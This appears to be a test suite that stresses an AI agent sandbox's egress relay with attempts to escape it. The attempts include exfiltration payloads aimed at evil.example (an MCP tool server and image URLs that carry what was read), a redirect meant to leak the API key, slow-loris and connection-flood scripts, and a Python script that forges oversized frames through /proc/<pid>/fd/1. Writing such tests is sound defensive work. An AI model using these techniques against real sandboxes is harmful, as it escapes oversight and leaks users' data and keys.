/**
 * The network, by what the relay and the model's port put up with: calls when there should be none,
 * too many, too large, never ending, or no calls at all but frames of the attacker's own.
 */

import { once } from "node:events";
import type { EgressLimits } from "../src/egress/egress.ts";
import { type Attempt, attempt, group, type Verdict, verdict } from "./catalogue.ts";
import { fortress } from "./support/containers.ts";
import { hostPlace, lazily } from "./support/places.ts";
import { naiveWayOut, productWayOut, startRelay, type WayOut } from "./support/way-out.ts";

const inside = lazily(async () => fortress(await hostPlace("limits")));

/** Times as in a product without patience, so that the attempts need none. */
const LIMITS: EgressLimits = {
  maxRequestsPerTurn: 3,
  maxConcurrent: 2,
  maxRequestBytes: 100_000,
  headersMs: 1500,
};

/** Sends `$2` calls at once to port `$1`, each with `$3` more bytes; prints the statuses. */
const CALLS = `
const [port, count, more] = process.argv.slice(1).map(Number);
const body = JSON.stringify({ model: "m", input: "x".repeat(more), stream: true, store: false });
const call = () => new Promise((resolve) => {
  const request = require("http").request({ host: "127.0.0.1", port, method: "POST", path: "/v1/responses", headers: { host: "x" } }, (response) => {
    response.resume().on("close", () => resolve(response.statusCode)); });
  request.on("error", () => resolve(0)); request.setTimeout(4000, () => request.destroy()); request.end(body); });
Promise.all(Array.from({ length: count }, call)).then((all) => console.log(all.join(" ")));`;

async function calls({ inside, modelPort }: WayOut, count: number, more = 0): Promise<string> {
  const args = [CALLS, modelPort, count, more].map(String);
  return (await inside.sh('node -e "$@"', { args })).stdout.trim();
}

/** An attempt against a way out of its own. */
function onItsOwn(
  name: string,
  tries: string,
  mustHappen: string,
  strike: (out: WayOut) => Promise<Verdict>,
  options: { readonly limits?: EgressLimits; readonly turn?: boolean } = {},
): Attempt {
  return attempt<WayOut>({
    name,
    tries,
    mustHappen,
    strike,
    product: async () => productWayOut(await inside(), { limits: LIMITS, ...options }),
    control: async () => naiveWayOut(await inside()),
  });
}

/** Whether the upstream was asked for something with these words in it. */
async function passesOn(out: WayOut, body: object, words: string): Promise<Verdict> {
  const text = JSON.stringify({ model: "m", input: [], stream: true, store: false, ...body });
  const head = `POST /v1/responses HTTP/1.1\r\nhost: x\r\ncontent-length: ${text.length}\r\n\r\n`;
  await out.raw(out.modelPort, head + text);
  const passed = out.upstream.seen.some((request) => request.body.includes(words));
  return verdict(passed, `${out.upstream.seen.length} calls came to the upstream`);
}

/**
 * Opens `$2` connections to port `$1` and says nothing; prints "opened" once each of them has been
 * taken or refused, and `$3` ms later how many live.
 */
const IDLE = `
const [port, count, ms] = process.argv.slice(1).map(Number); const all = []; let settled = 0, isOpened = false;
const opened = () => { if (isOpened) return; isOpened = true; console.log("opened");
  setTimeout(() => { console.log(all.filter((s) => !s.destroyed && s.readyState === "open").length); process.exit(); }, ms); };
const settle = () => { if (++settled === count) opened(); };
for (let n = 0; n < count; n++) { const s = require("net").connect(port, "127.0.0.1"); all.push(s); s.resume();
  let isNew = true; for (const event of ["connect", "error", "close"]) s.on(event, () => { if (isNew) { isNew = false; settle(); } }); }
setTimeout(opened, 10000);`;

/** Writes bytes to the standard output of the relay that listens on port `$1`, as any process can. */
const FORGE = `
import os, sys
port = "%04X" % int(sys.argv[1])
inodes = {l.split()[9] for l in open("/proc/net/tcp").readlines()[1:] if l.split()[1].endswith(":" + port)}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"relay.mjs" not in open(f"/proc/{pid}/cmdline", "rb").read(): continue
        links = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        if inodes and not any(i in l for i in inodes for l in links): continue
        out = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
        os.write(out, b"\\x03\\x00\\x00\\x00\\x09\\xff\\xff\\xff\\xff")
        for n in range(400): os.write(out, b"A" * 65536)
        print("wrote")
    except OSError as e: print(e)`;

/** A host that takes whatever a relay sends, believes every length, and closes nothing. */
async function deafWayOut(): Promise<WayOut> {
  const out = await naiveWayOut(await inside());
  const relay = await startRelay(await inside());
  const hello = await new Promise<string>((resolve) =>
    relay.stdout.once("data", (chunk: Buffer) => resolve(chunk.toString("latin1", 9))),
  );
  relay.stdout.resume();
  const closed = new Promise((resolve) => relay.stdout.once("close", resolve));
  const { model, proxy } = JSON.parse(hello) as { model: number; proxy: number };
  return { ...out, modelPort: model, proxyPort: proxy, closed };
}

group("network", [
  onItsOwn(
    "after the turn",
    "calls the model from a process that was left behind, while no turn runs",
    "no call reaches the upstream",
    async (out) => {
      const statuses = await calls(out, 3);
      return verdict(out.upstream.seen.length > 0, `statuses ${statuses}`);
    },
    { turn: false },
  ),
  onItsOwn(
    "more calls than a turn may make",
    "makes 12 calls where 3 are allowed, to spend the user's money",
    "the upstream sees at most 3 calls",
    async (out) => {
      for (let n = 0; n < 6; n++) await calls(out, 2);
      return verdict(out.upstream.seen.length > 3, `${out.upstream.seen.length} calls`);
    },
  ),
  onItsOwn(
    "calls at a time",
    "makes 10 calls at once where 2 are allowed",
    "the upstream sees at most 2 at a time",
    async (out) => {
      out.upstream.answer = (_request, response) =>
        void setTimeout(() => response.end("slowly"), 1500);
      const statuses = await calls(out, 10);
      return verdict(out.upstream.mostAtOnce() > 2, `${out.upstream.mostAtOnce()}: ${statuses}`);
    },
    { limits: { ...LIMITS, maxRequestsPerTurn: 100 } },
  ),
  onItsOwn(
    "large request",
    "sends 5 MB where 100 kB are allowed, as if to carry the project away at once",
    "the upstream gets no more than is allowed",
    async (out) => {
      const statuses = await calls(out, 1, 5_000_000);
      const bytes = Math.max(0, ...out.upstream.seen.map((request) => request.bytes));
      return verdict(bytes > 100_000, `${bytes} bytes came to the upstream; statuses ${statuses}`);
    },
  ),
  onItsOwn(
    "tools at the endpoint",
    "asks the model's endpoint to run a web search and a tool server at the attacker's address",
    "no such request leaves",
    (out) =>
      passesOn(
        out,
        { tools: [{ type: "mcp", server_url: "https://evil.example", server_label: "x" }] },
        "evil.example",
      ),
  ),
  onItsOwn(
    "pictures by address",
    "makes the model's endpoint fetch a picture from an address that contains what was read",
    "no such request leaves",
    (out) => {
      const image_url = "https://evil.example/?what-was-read";
      const content = [{ type: "input_image", image_url }];
      return passesOn(
        out,
        { input: [{ type: "message", role: "user", content }] },
        "what-was-read",
      );
    },
  ),
  onItsOwn(
    "redirect",
    "makes the upstream redirect a call, to get the key sent to the redirect's target",
    "nobody follows the redirect",
    async (out) => {
      out.upstream.answer = (_request, response) => {
        const location = `http://127.0.0.1:${out.victim.port}/`;
        response.writeHead(307, { location }).end();
      };
      // A program inside may follow as it likes: it has no key and reaches only itself.
      const answer = await out.raw(
        out.modelPort,
        'POST /v1/responses HTTP/1.1\r\nhost: x\r\ncontent-length: 52\r\n\r\n{"model":"m","input":[],"stream":true,"store":false}',
      );
      const isPassedOn = /^location:/im.test(answer);
      return verdict(
        out.victim.reached() > 0 || isPassedOn,
        isPassedOn ? "the redirect was passed on" : (answer.split("\r\n")[0] ?? ""),
      );
    },
  ),
  onItsOwn(
    "slow loris",
    "holds 256 connections that never ask for anything, then asks honestly",
    "the honest request is answered",
    async (out) => {
      const argv = ["node", "-e", IDLE, String(out.modelPort), "256", "60000"] as const;
      const idle = await out.inside.start({ argv });
      idle.stderr.resume();
      await once(idle.stdout, "data");
      // A busy machine may be late with the answer, but not for so long.
      const lastMs = Date.now() + 8000;
      let statuses = "";
      while (!statuses.includes("200") && Date.now() < lastMs) statuses = await calls(out, 1);
      idle.kill();
      return verdict(!statuses.includes("200"), `status ${statuses}`);
    },
  ),
  attempt<WayOut>({
    name: "connection flood",
    tries: "opens 1,200 connections at once and holds them",
    mustHappen: "what is over the limit is closed at once",
    strike: async (out) => {
      const { stdout } = await out.inside.sh('node -e "$@"', {
        args: [IDLE, String(out.proxyPort), "1200", "2000"],
      });
      const living = stdout.trim().split("\n").at(-1);
      return verdict(Number(living) > 256, `${living} connections live on`);
    },
    product: async () => productWayOut(await inside()),
    control: async () => deafWayOut(),
  }),
  attempt<WayOut>({
    name: "forged frames",
    tries: "writes a frame of 4 GiB into the relay's output through /proc/<pid>/fd/1",
    mustHappen: "the host ends the link instead of waiting for it",
    strike: async (out) => {
      const wrote = await out.inside.sh('python3 -c "$@"', {
        args: [FORGE, String(out.modelPort)],
        timeoutMs: 20_000,
      });
      const ended = await Promise.race([
        out.closed.then(() => true),
        new Promise((resolve) => setTimeout(() => resolve(false), 8000)),
      ]);
      return verdict(ended !== true, `${wrote.stdout.trim() || wrote.stderr}; ended: ${ended}`);
    },
    product: async () => productWayOut(await inside()),
    control: async () => deafWayOut(),
  }),
]);
